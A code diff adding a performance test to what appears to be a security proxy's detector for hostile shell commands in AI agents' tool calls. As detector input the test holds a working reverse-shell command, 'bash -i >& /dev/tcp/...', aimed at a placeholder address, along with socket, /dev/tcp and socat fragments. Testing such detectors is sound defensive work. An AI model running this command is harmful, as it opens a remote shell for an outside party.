@@ -15,6 +15,7 @@ from proxy.detectors import commands
 from proxy.detectors.tools import RoleOverrides, check_tool_calls
 from proxy.model import Action, Severity, Threat
 from proxy.scanning.rulepack import Scanner, load_packaged_packs
+from tests.cpu_time import least_cpu_seconds
 from tests.test_commands_detector import CATALOGUE, SCANNER, _call, _judge
 from tests.test_commands_run_later import DETECTORS, judged, shell
 
@@ -116,6 +117,24 @@ def test_what_an_earlier_call_left_is_read_for_a_way_in(
     calls: list[tuple[str, dict[str, object]]], rule: str | None
 ) -> None:
     assert judged(calls) == rule
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["connect(", "x.connect(('h',1));'sh' ", "spawn('sh' ", "5<>/dev/tcp/h/1 $x ", "&a b ", ";socat a "],
+)
+def test_a_rule_s_anchor_repeated_is_scanned_in_time(unit: str) -> None:
+    """A rule that looks past its anchor for what else makes the command (a socket's connection for a
+    shell and a tie between them, an opened descriptor for a shell using it, a command's words for a
+    redirect) looks no further than the next anchor: 16 KB of anchors repeated is scanned within a
+    fraction of a second (a reach of 600 characters tried from each took half a second at 10 KB),
+    and a way in after them is still found."""
+    padding = (unit * (16 * 1024 // len(unit) + 1))[: 16 * 1024]
+    call = _call("bash", {"command": padding})
+    commands.readings(call.name, call.arguments)  # the readings are the destructive tests' to time
+    assert least_cpu_seconds(lambda: commands.destructive_entry(call, REMOTE, REMOTE.budget()), runs=2) < 0.25
+    found = _call("bash", {"command": f"{padding}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1"})
+    assert withheld(commands.destructive_entry(found, REMOTE, REMOTE.budget()))
 
 
 def test_a_call_whose_commands_are_unread_is_out_of_time_for_both_packs() -> None:
